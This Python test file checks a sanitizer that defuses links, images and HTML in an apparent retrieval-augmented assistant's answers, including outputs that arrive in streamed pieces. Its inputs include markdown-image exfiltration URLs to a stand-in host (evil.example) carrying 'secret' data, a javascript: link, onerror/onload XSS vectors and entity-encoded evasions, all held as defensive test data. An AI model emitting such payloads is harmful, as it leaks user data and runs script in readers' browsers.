"""What documents plant stays text, however the model's text was cut."""

from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from sextant.domain.answers import Token
from sextant.domain.retrieval import ItemKind, RetrievedItem
from sextant.nodes.answers.sanitizer import REMOVED, OutputSanitizer, sanitize_output
from sextant.nodes.citing.cited_text import CitedText

PORTAL = "Sign in at https://portal.example/login?next=a, or call."


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("![x](https://evil.example/a.png?q=secret)", "![x]"),
        ("![x](<https://evil.example/a b.png>)", "![x]"),
        ("![x](//evil.example/a.png)", "![x]"),
        ("![x](\nhttps://evil.example/a.png\n)", "![x]"),
        ("![x](&#104;ttps&#58;&#47;&#47;evil.example)", "![x]"),
        ("[click](javascript:alert(1))", "[click])"),
        ("[1](https://evil.example)", "[1]"),
        ("![x][e]\n\n[e]: //evil.example/a.png", f"![x][e]\n\n[e] : {REMOVED['en']}"),
        ("See https://evil.example/?q=secret.", f"See {REMOVED['en']}."),
        (
            "Open //evil.example/a, slack://evil and ///evil.example.",
            f"Open {REMOVED['en']}, slack:{REMOVED['en']} and /{REMOVED['en']}.",
        ),
        ("$\\href{//evil.example/?q=secret}{x}$", f"$\\href{{{REMOVED['en']}}}{{x}}$"),
        ("See www.evil.example!", f"See {REMOVED['en']}!"),
        ("<https://evil.example>", f"‹{REMOVED['en']}>"),
        ('<img src="//evil.example/a">', f'‹img src="{REMOVED["en"]}">'),
        ("<IMG SRC=x onerror=y></a><svg/onload=z>", "‹IMG SRC=x onerror=y>‹/a>‹svg/onload=z>"),
        ("a<!-- hidden -->b", "a‹!-- hidden -->b"),
        ("` ![x](https://evil.example/a.png)", "' ![x]"),
        ("```\n![x](https://evil.example/a.png)\n```", "```\n![x]\n```"),
    ],
)
def test_nothing_that_a_page_would_fetch_or_run_is_left(written: str, shown: str) -> None:
    assert sanitize_output(written, [PORTAL]) == shown


def test_an_address_that_the_passages_hold_is_shown_as_code() -> None:
    assert (
        sanitize_output("Go to https://portal.example/login?next=a.", [PORTAL])
        == "Go to `https://portal.example/login?next=a`."
    )
    assert sanitize_output("[portal](https://portal.example/login)", [PORTAL]) == (
        "[portal] (`https://portal.example/login`)"
    )
    code = "```\ncurl https://portal.example/login\n```"
    assert sanitize_output(code, [PORTAL]) == code


def test_without_passages_any_address_may_be_told_but_stays_text() -> None:
    assert sanitize_output("见https://docs.python.org/3/。", language="zh") == (
        "见`https://docs.python.org/3/`。"
    )
    assert (
        sanitize_output("![x](https://docs.python.org/x.png)")
        == "![x] (`https://docs.python.org/x.png`)"
    )


def test_an_address_of_any_scheme_is_shown_where_the_passages_hold_it() -> None:
    written = "Connect to postgresql://db.example/leases, or read //files.example/a.txt."
    assert sanitize_output(written, [written]) == (
        "Connect to postgresql://db.example/leases, or read `//files.example/a.txt`."
    )


def test_an_address_that_would_end_the_code_it_is_shown_as_goes() -> None:
    assert sanitize_output("[x](https://docs.python.org/`<b>`)") == "[x]"


@pytest.mark.parametrize(
    "text",
    [
        "`Vec<T>` of x < y, a[i] = b; 3 <4> 5, 糖<5 and a <= b",
        "An array [a, b], a marker [1] and a file.name; 50% of http codes are 200",
        "中文：这是一句话！[1]（见第 3 节）",
        "a/b, and/or, src//main, // a comment, 24/7, 1//2 and C:/Users",
    ],
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert sanitize_output(text, [PORTAL]) == text


def test_a_word_is_held_back_only_while_it_may_become_an_address() -> None:
    guard = OutputSanitizer([PORTAL])
    assert guard.feed("The owner") == "The owner"
    assert guard.feed(" h") == " "
    assert guard.feed("as one") == "has one"
    assert guard.feed(" [1]") == " [1]"
    assert guard.feed("(") == ""
    assert guard.feed("https://evil.example).") == "."
    assert guard.feed(" a <") == " a "
    assert guard.feed("= b") == "<= b"


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        (f"![x](https://evil.example/{'q' * 5000})", f"![x] ({REMOVED['en']})"),
        (f"[x]({'/' * 5000})", f"[x] ({'/' * 5000})"),
        ("<mark onclick=x>a</mark><area href=//evil.example>", f"‹mark onclick=x>a‹/mark>‹area href={REMOVED['en']}>"),
        ("<x-y z>, <!DOCTYPE a>, <?php ?>, <![CDATA[a]]>", "‹x-y z>, ‹!DOCTYPE a>, ‹?php ?>, ‹![CDATA[a]]>"),
        ("<a@evil.example> <made-up:address>", "‹a@evil.example> ‹made-up:address>"),
        ("&lt;img src=x&gt; &#60;b&#62; &amp;lt;i>", "‹img src=x> ‹b> ‹i>"),
        ("[x]&#40;//evil.example&#41;", f"[x] ({REMOVED['en']};"),
        ("f(x)[0](y), [a](b)(c)", "f(x)[0] (y), [a] (b)(c)"),
        ("<[9]img src=x>", "‹[9]img src=x>"),
    ],
)  # fmt: skip
def test_what_is_not_known_to_be_harmless_becomes_text(written: str, shown: str) -> None:
    assert sanitize_output(written, [PORTAL]) == shown


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Use `Vec<T>` and ``a`b``.", "Use `Vec<T>` and `a'b`."),
        ("```rust\nlet a: Vec<T> = b[0](c);\n```\n", "```rust\nlet a: Vec<T> = b[0](c);\n```\n"),
        (
            "- step\n  ```html\n  <b>x</b>\n  ```\n- next",
            "- step\n```\n  <b>x</b>\n```\n- next",
        ),
        ("> ```\n> <b>\n> ```\nend", ">\n```\n> <b>\n```\nend"),
        ("~~~\n<b>\n~~~\n<b>", "~~~\n<b>\n~~~\n‹b>"),
        ("```\n<b>\n``` [1]\n<b>", "```\n<b>\n```\n[1]\n‹b>"),
        ('```mermaid\nclick A "//evil.example"\n```', '```\nclick A "//evil.example"\n```'),
        ("```HTML\n<b>\n```", "```\n<b>\n```"),
        ("```\n<b>", "```\n<b>\n```"),
        ("```\n<b>\n", "```\n<b>\n```"),
        ("one ` tick and `<b>`", "one ` tick and `‹b>'"),
        ("| `<a|b>` |", "| `‹a|b>` |"),
    ],
)
def test_code_stays_code(written: str, shown: str) -> None:
    assert sanitize_output(written, [PORTAL]) == shown


_PARTS = ["https://", "http", "://", "evil.example/a", "portal.example/login", "www.", "//", "///", "```html\n", "](", ")", "[",
          "]", "!", "<", "img", "/a>", "a", " ", "\n", "`", "```", "句", "。", "1", "://", "x" * 300, ":",
          "~", "~~~", "    ", "> ", "- ", "1. ", "<b>", "<!--", "-->", "&lt;", "&#96;", "&#10;", "&", "[1]",
          "|", "\\", "]:", "``", "[9]", "![", "<i>", "\n```\n", "\n~~~\n", "``` [1]", "\r", "<script>", "\n\n", "[x]: /u", '"', "'", "\t", "#", "=", "\0"]  # fmt: skip
_TEXTS = st.one_of(
    st.lists(st.sampled_from(_PARTS), max_size=24).map("".join), st.text(max_size=60)
)
_RENDERERS = [
    MarkdownIt("commonmark", {"html": True}),
    MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]),
]
_ALIVE = {"link_open", "image", "html_inline", "html_block"}


def alive(text: str) -> set[str]:
    """Return the kinds of links, images and tags that renderers find in a text."""
    tokens = [token for renderer in _RENDERERS for token in renderer.parse(text)]
    inner = [token for block in tokens for token in block.children or ()]
    return {token.type for token in [*tokens, *inner]} & _ALIVE


@given(_TEXTS, st.data())
@settings(max_examples=500)
def test_what_comes_out_does_not_depend_on_how_it_was_cut(text: str, data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=10)))
    guard = OutputSanitizer([PORTAL])
    pieces = [guard.feed(text[start:end]) for start, end in pairwise([0, *cuts, len(text)])]
    assert "".join([*pieces, guard.finish()]) == sanitize_output(text, [PORTAL])


@given(_TEXTS)
@settings(max_examples=1000)
def test_no_renderer_finds_a_link_an_image_or_a_tag(text: str) -> None:
    shown = sanitize_output(text, [PORTAL])
    assert not alive(shown)
    assert not alive(sanitize_output(shown, [PORTAL]))


@given(_TEXTS)
@settings(max_examples=500)
def test_nor_in_the_answer_that_is_made_of_it(text: str) -> None:
    passages = [RetrievedItem(ItemKind.CHUNK, "1", f"An owner. {PORTAL}", 1.0)]
    cited = CitedText(passages)
    events = [*cited.feed(sanitize_output(text, [PORTAL])), *cited.finish()]
    assert not alive("".join(event.text for event in events if isinstance(event, Token)))
